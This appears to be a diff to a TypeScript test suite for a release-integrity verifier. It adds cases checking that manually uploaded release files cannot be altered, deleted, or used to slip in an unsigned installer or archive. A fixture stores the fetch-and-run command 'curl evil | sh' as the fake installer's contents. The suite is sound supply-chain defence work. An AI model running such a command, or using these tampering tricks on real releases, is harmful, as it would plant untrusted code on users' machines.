@@ -11,6 +11,7 @@ import {
   editRecord,
   identity,
   image,
+  keptName,
   replaceAsset,
   repositoryUrl,
   sha256,
@@ -65,6 +66,11 @@ const put =
   (world: Published): void => {
     replaceAsset(world, name, Buffer.from(text));
   };
+/** As the record has what `put` has put there. */
+const entry = (name: string): { readonly name: string; readonly size: number; readonly sha256: string } => {
+  const bytes = Buffer.from('curl evil | sh');
+  return { name, size: bytes.length, sha256: sha256(bytes).slice('sha256:'.length) };
+};
 type Edit = (record: Editable<ReleaseRecord>) => unknown;
 /** With contents: write alone: nothing can be signed, so record and checksums agree and no signature speaks of them. */
 const unsigned =
@@ -264,8 +270,20 @@ const ownIdentity: readonly Tampering[] = [
   },
 ];
 
+/** A file that a person had put on the page: nothing was built here, and all the same nobody may change it later. */
+const keptFiles: readonly Tampering[] = [
+  { right: 'contents', name: 'the file that a person had put on the page has other bytes', tamper: put(keptName), found: /not built here: changed or gone since: poster\.txt/, alsoNamed: /^Asset poster\.txt: its SHA-256/ },
+  { right: 'contents', name: 'the file that a person had put on the page is deleted', tamper: removing(keptName), found: /missing: poster\.txt/ },
+  { right: 'contents', name: 'an installer is added as one that a person had put there; the old signature stays', tamper: (world) => { put('install.sh')(world); editRecord(world, (m) => void m.kept!.push(entry('install.sh'))); }, alsoNamed: ofRecord, found: /release\.json is signed: nothing (?:vouches for it|that is signed speaks of it)/ },
+  { right: 'contents', name: 'an installer is added as one that a person had put there; the signature is dropped', tamper: unsigned((m) => void m.kept!.push(entry('install.sh')), put('install.sh')), alsoNamed: ofRecord, found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer/ },
+  { right: 'contents', name: 'an evil archive is said to have been put there by a person, so that no provenance is asked for', tamper: unsigned((m) => { m.assets = m.assets.filter(({ name }) => name !== archiveName); m.kept!.push(entry(archiveName)); }, put(archiveName)), alsoNamed: ofRecord, found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer/ },
+  { right: 'contents', name: 'the file that a person had put on the page is said to be built here', tamper: unsigned((m) => { m.assets.push(...m.kept!); delete m.kept; }), alsoNamed: ofRecord, found: /it does not speak of poster\.txt/ },
+  { right: 'own identity', name: 'a run records a file as built here and as put there by a person', tamper: (world, authority) => reseal(world, authority, undefined, (m) => void m.kept!.push(...m.assets.filter(({ name }) => name === archiveName).map(({ name, size, sha256: sum }) => ({ name, size, sha256: sum })))), found: /recorded as built here, too: signpost_1\.2\.0\.tar\.gz/ },
+]; // prettier-ignore
+
 export const tamperings: readonly Tampering[] = [
   ...contents,
+  ...keptFiles,
   ...packages,
   ...attestations,
   ...allThree,
